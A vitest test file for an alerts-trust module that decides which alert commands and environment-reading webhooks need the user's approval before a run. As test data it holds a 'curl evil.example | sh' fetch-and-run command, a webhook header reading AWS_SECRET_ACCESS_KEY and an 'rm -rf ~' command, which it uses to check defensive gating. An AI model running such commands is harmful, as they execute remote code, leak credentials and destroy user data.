import { describe, expect, it } from 'vitest';
import { alertsDigest, permittedAlerts, trustNeeds, withoutUntrusted } from './alertsTrust.js';

const literalHook = { url: 'https://hooks.example.com/services/T0/B0/x', format: 'slack' as const };
const envHook = { url: 'https://${HOOK_HOST}/post?key=${HOOK_KEY}' };

describe('what in alerts needs the user’s trust', () => {
  it('nothing, when there are no alerts or only a written-out webhook', () => {
    expect(trustNeeds(undefined)).toBeUndefined();
    expect(trustNeeds({ webhook: literalHook })).toBeUndefined();
    expect(trustNeeds({ on: ['failure'], webhook: { ...literalHook, headers: { 'X-Team': 'data' } } })).toBeUndefined();
  });

  it('a command, shown as its program and arguments', () => {
    expect(trustNeeds({ command: ['/bin/sh', '-c', 'curl evil.example | sh'] })).toEqual({ command: ['/bin/sh', '-c', 'curl evil.example | sh'], envVars: [] });
  });

  it('every environment variable the webhook’s URL and headers read, once each', () => {
    expect(trustNeeds({ webhook: { url: '${BATCHBOOK_ALERT_WEBHOOK}' } })).toEqual({ envVars: ['BATCHBOOK_ALERT_WEBHOOK'] });
    expect(trustNeeds({ webhook: envHook })).toEqual({ envVars: ['HOOK_HOST', 'HOOK_KEY'] });
    expect(trustNeeds({ webhook: { ...literalHook, headers: { Authorization: 'Bearer ${AWS_SECRET_ACCESS_KEY}', 'X-Key': '${AWS_SECRET_ACCESS_KEY}' } } })).toEqual({
      envVars: ['AWS_SECRET_ACCESS_KEY'],
      webhookHost: 'hooks.example.com',
    });
  });
});

describe('the digest a decision is remembered under', () => {
  it('does not depend on key order, and changes with any change to the alerts', () => {
    const a = alertsDigest({ on: ['failure'], command: ['notify', '--all'] });
    expect(alertsDigest({ command: ['notify', '--all'], on: ['failure'] })).toBe(a);
    expect(alertsDigest({ on: ['failure'], command: ['notify', '--all', '--more'] })).not.toBe(a);
    expect(alertsDigest({ on: ['failure', 'success'], command: ['notify', '--all'] })).not.toBe(a);
    expect(alertsDigest(undefined)).not.toBe(a);
    expect(alertsDigest(undefined)).toMatch(/^[0-9a-f]{64}$/);
  });
});

describe('alerts without what needs trust', () => {
  it('drops the command and an environment-reading webhook, keeps a written-out webhook', () => {
    expect(withoutUntrusted({ on: ['failure'], command: ['notify'], webhook: literalHook })).toEqual({ on: ['failure'], webhook: literalHook });
    expect(withoutUntrusted({ command: ['notify'], webhook: envHook })).toBeUndefined();
    expect(withoutUntrusted({ webhook: { ...literalHook, headers: { Authorization: '${TOKEN}' } } })).toBeUndefined();
  });

  it('gives a run everything only when it was trusted for exactly these alerts', () => {
    const alerts = { command: ['notify'], webhook: literalHook };
    expect(permittedAlerts(alerts, { mode: 'trusted', digest: alertsDigest(alerts) })).toEqual(alerts);
    expect(permittedAlerts(alerts, { mode: 'untrusted', digest: alertsDigest(alerts) })).toEqual({ webhook: literalHook });
    // the file changed after the user answered: the new command is not run
    expect(permittedAlerts({ ...alerts, command: ['rm', '-rf', '~'] }, { mode: 'trusted', digest: alertsDigest(alerts) })).toEqual({ webhook: literalHook });
  });
});
